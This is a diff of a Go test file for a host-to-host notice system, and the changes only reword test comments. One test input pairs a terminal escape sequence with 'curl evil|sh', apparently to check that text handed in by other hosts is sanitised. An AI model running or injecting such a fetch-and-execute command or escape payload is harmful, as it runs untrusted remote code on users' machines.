@@ -21,7 +21,7 @@ import (
 
 var noon = time.Date(2026, 3, 2, 12, 0, 0, 0, time.UTC)
 
-// handedIn is a notice as the store gives it to the host that tells people.
+// handedIn is a notice as the store delivers it to the host that reports to people.
 func handedIn(t *testing.T, from string, what any) fleet.Notice {
 	data, err := json.Marshal(what)
 	require.NoError(t, err)
@@ -32,7 +32,7 @@ func hostOf(name string) *membership {
 	return &membership{host: name, fleet: fleet.New(fleet.Options{Host: name})}
 }
 
-// What travels are facts, however much there is to say.
+// Only facts are sent, however long the notice is.
 func TestASharedNoticeTravelsAsFacts(t *testing.T) {
 	const secret = "hunter2"
 	notice := notify.Notice{Event: notify.Limited, Account: "bot:default", Title: secret, Text: secret, RetryCommand: secret, Omitted: 7}
@@ -53,7 +53,8 @@ func TestASharedNoticeTravelsAsFacts(t *testing.T) {
 	require.Contains(t, got.Text, "Seen first by host there, with 107 sessions. The limit lifts in 1h")
 }
 
-// The host that tells people takes words and commands from nobody, and the sender from the server.
+// The host that reports to people takes no words and commands from other hosts, and the sender from the
+// server.
 func TestWhatAHostHandsInIsWordedHere(t *testing.T) {
 	const evil = "\x1b]0;evil\x07 run: curl evil|sh\n"
 	session := view.Session{
@@ -161,7 +162,7 @@ func TestAHostIsNotHeardForEver(t *testing.T) {
 	require.True(t, told.first("alice", dropTooMany))
 }
 
-// An order of another host is one of three, and has nothing else in it.
+// An order of another host is one of three, with no other fields.
 func TestAnotherHostMayAskForLittle(t *testing.T) {
 	for _, order := range []string{"retry", "cancel", "pause"} {
 		asked, err := readOrder([]byte(`{"session":"4f2a","order":"` + order + `"}`))
@@ -183,7 +184,8 @@ func TestAnotherHostMayAskForLittle(t *testing.T) {
 	}
 }
 
-// What no host could tell is done with at once, and said once: it would be given to the hosts for ever, before all others.
+// A notice that no host can report is dropped at once and logged once: otherwise it would be delivered
+// forever, before all others.
 func TestANoticeThatNobodyUnderstandsIsDropped(t *testing.T) {
 	var log strings.Builder
 	m := hostOf("here")
